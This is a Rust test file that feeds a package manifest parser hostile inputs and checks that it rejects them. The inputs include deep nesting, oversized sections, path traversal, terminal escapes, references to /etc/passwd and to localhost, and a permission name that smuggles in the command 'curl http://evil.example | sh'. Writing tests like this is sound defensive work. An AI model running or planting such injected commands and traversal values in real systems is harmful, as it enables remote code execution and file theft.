//! Manifest sections that lie, are many, huge or deep.

use pulumi_wasm_packages::manifest_section;
use serde_json::{Map, Value, json};
use tonic::Code;

use super::attack::{Asked, Attack, withstand};
use test_support::fake::guest::{Guest, THING};

/// A component whose manifest section has this content.
fn with(content: &str) -> Vec<u8> {
    let mut bytes = bare();
    manifest_section::append(&mut bytes, content);
    bytes
}

/// A component without a manifest section, and without an answer when it is asked for it.
fn bare() -> Vec<u8> {
    let guest = Guest::new().without_section();
    guest.build()
}

fn manifest() -> Value {
    let mut known = Value::Null;
    drop(Guest::new().manifest(|manifest| known = manifest.clone()));
    known
}

fn changed(change: impl FnOnce(&mut Value)) -> Vec<u8> {
    let mut manifest = manifest();
    change(&mut manifest);
    with(&manifest.to_string())
}

/// A section with the manifest's name whose content is not text.
fn bytes_of(content: &[u8]) -> Vec<u8> {
    let name = manifest_section::NAME.as_bytes();
    let mut section = vec![u8::try_from(name.len()).expect("a short name")];
    section.extend_from_slice(name);
    section.extend_from_slice(content);
    Guest::new()
        .without_section()
        .with_section(0, &section)
        .build()
}

pub(crate) fn attacks() -> Vec<Attack> {
    let refused = |name, bytes: Vec<u8>, words: &[&str]| {
        Attack::new(name, bytes)
            .asks(Asked::Parameterize)
            .fails(Code::InvalidArgument, words)
    };
    let deep = |open: &str, close: &str| {
        format!(
            "{{\"manifest\":1,\"x\":{}1{}}}",
            open.repeat(100_000),
            close.repeat(100_000)
        )
    };
    let nested_type = (0..100_000).fold(String::new(), |mut text, _| {
        text.push_str("{\"type\":\"array\",\"items\":");
        text
    });
    let deep_schema = manifest()
        .to_string()
        .replace("{\"type\":\"string\"}", &format!("{nested_type}1"));
    let input = |value: Value| {
        changed(|manifest| {
            manifest["schema"]["resources"][THING]["inputProperties"]["label"] = value;
        })
    };
    let many = |count: usize| {
        changed(|manifest| {
            let mut resources = Map::new();
            let mut hooks = Map::new();
            for number in 0..count {
                let token = format!("acme:index:Thing{number}");
                resources.insert(
                    token.clone(),
                    json!({ "inputProperties": {}, "properties": {} }),
                );
                hooks.insert(token, json!({ "hooks": ["create"] }));
            }
            manifest["schema"]["resources"] = resources.into();
            manifest["resources"] = hooks.into();
        })
    };
    let twice = {
        let mut bytes = with("{\"manifest\":1");
        manifest_section::append(&mut bytes, &manifest().to_string());
        bytes
    };
    vec![
        refused(
            "a manifest that is not JSON",
            with("I am acme"),
            &["not JSON"],
        ),
        refused("an empty manifest", with(""), &["not JSON"]),
        refused(
            "half a manifest",
            with("{\"manifest\":1,\"schema\":{"),
            &["not JSON"],
        ),
        refused("a manifest that is a number", with("1"), &["manifest"]),
        refused(
            "a manifest that is not UTF-8",
            bytes_of(b"{\"manifest\":1,\"\xff\xfe\":2}"),
            &["manifest"],
        ),
        refused(
            "a manifest of lists in lists",
            with(&deep("[", "]")),
            &["not JSON"],
        ),
        refused(
            "a manifest of objects in objects",
            with(&deep("{\"a\":", "}")),
            &["not JSON"],
        ),
        refused(
            "a manifest of types in types",
            with(&deep_schema),
            &["not JSON"],
        ),
        refused(
            "a manifest of the future",
            changed(|manifest| manifest["manifest"] = json!(1e300)),
            &["manifest"],
        ),
        refused(
            "a manifest with a name that leads out",
            changed(|manifest| {
                manifest["schema"]["name"] = "../../../etc".into();
            }),
            &["/schema/name"],
        ),
        refused(
            "a manifest with a name for the terminal",
            changed(|manifest| {
                manifest["schema"]["name"] = "\u{1b}[2Jacme".into();
            }),
            &["/schema/name"],
        ),
        refused(
            "a manifest with another package's tokens",
            changed(|manifest| {
                let resource = manifest["schema"]["resources"][THING].take();
                manifest["schema"]["resources"] = json!({ "aws:s3:Bucket": resource });
                manifest["resources"] = json!({ "aws:s3:Bucket": { "hooks": ["create"] } });
            }),
            &["aws:s3:Bucket"],
        ),
        refused(
            "a type that is a reference to itself",
            input(json!({ "$ref": "#/types/acme:index:None" })),
            &["acme:index:None"],
        ),
        refused(
            "a reference to a file",
            input(json!({ "$ref": "/etc/passwd" })),
            &["/etc/passwd"],
        ),
        refused(
            "a reference to another host",
            input(json!({ "$ref": "http://127.0.0.1/schema.json#/types/x" })),
            &["http://127.0.0.1"],
        ),
        refused(
            "permissions that are not a list",
            changed(|manifest| manifest["permissions"] = json!({ "net": 7 })),
            &["permissions"],
        ),
        refused(
            "a permission for all hosts",
            changed(|manifest| {
                manifest["permissions"] =
                    json!({ "net": [{ "host": "*", "required": true, "reason": "all of it" }] });
            }),
            &[
                "asks for something that cannot be granted",
                "`*`",
                "tell its author",
            ],
        ),
        refused(
            "a permission for a file",
            changed(|manifest| {
                manifest["permissions"] = json!({ "net": [{ "host": "file:///etc/passwd", "required": true, "reason": "x" }] });
            }),
            &[
                "asks for something that cannot be granted",
                "file:///etc/passwd",
            ],
        ),
        // A command in a hint does not come from the component.
        refused(
            "a permission whose name is a command",
            changed(|manifest| {
                manifest["permissions"] = json!({ "env": [{
                "name": "X; curl http://evil.example | sh", "required": true, "reason": "x",
            }] });
            }),
            &["--allow-env 'X; curl http://evil.example | sh'"],
        ),
        // The last one counts, and only it is read.
        Attack::new("two manifests", twice),
        refused(
            "two manifests, the last of them malformed",
            {
                let mut bytes = Guest::new().build();
                manifest_section::append(&mut bytes, "{}");
                bytes
            },
            &["manifest"],
        ),
        refused(
            "ten thousand manifests",
            {
                let mut bytes = Guest::new().build();
                for _ in 0..10_000 {
                    manifest_section::append(&mut bytes, "{}");
                }
                bytes
            },
            &["manifest"],
        ),
        Attack::new(
            "a manifest with very many texts",
            changed(|manifest| {
                manifest["schema"]["keywords"] = Value::Array(vec!["word".into(); 400_000]);
            }),
        ),
        Attack::new(
            "a manifest of 8 MiB",
            changed(|manifest| {
                manifest["schema"]["description"] = "x".repeat(8 << 20).into();
            }),
        )
        .asks(Asked::Parameterize),
        Attack::new(
            "a manifest of 64 MiB",
            changed(|manifest| {
                manifest["schema"]["description"] = "x".repeat(64 << 20).into();
            }),
        )
        .asks(Asked::Parameterize)
        .reaches(Code::InvalidArgument, "manifest-size"),
        Attack::new("a manifest with very many resources", many(10_000)).asks(Asked::Parameterize),
        Attack::new(
            "a manifest that says it describes nothing",
            changed(|manifest| {
                manifest["schema"]["resources"] = json!({});
                manifest["resources"] = json!({});
            }),
        )
        .refused(&["it has no resource types at all"]),
    ]
}

#[tokio::test]
async fn manifests_are_read_as_untrusted_input() {
    withstand(attacks()).await;
}
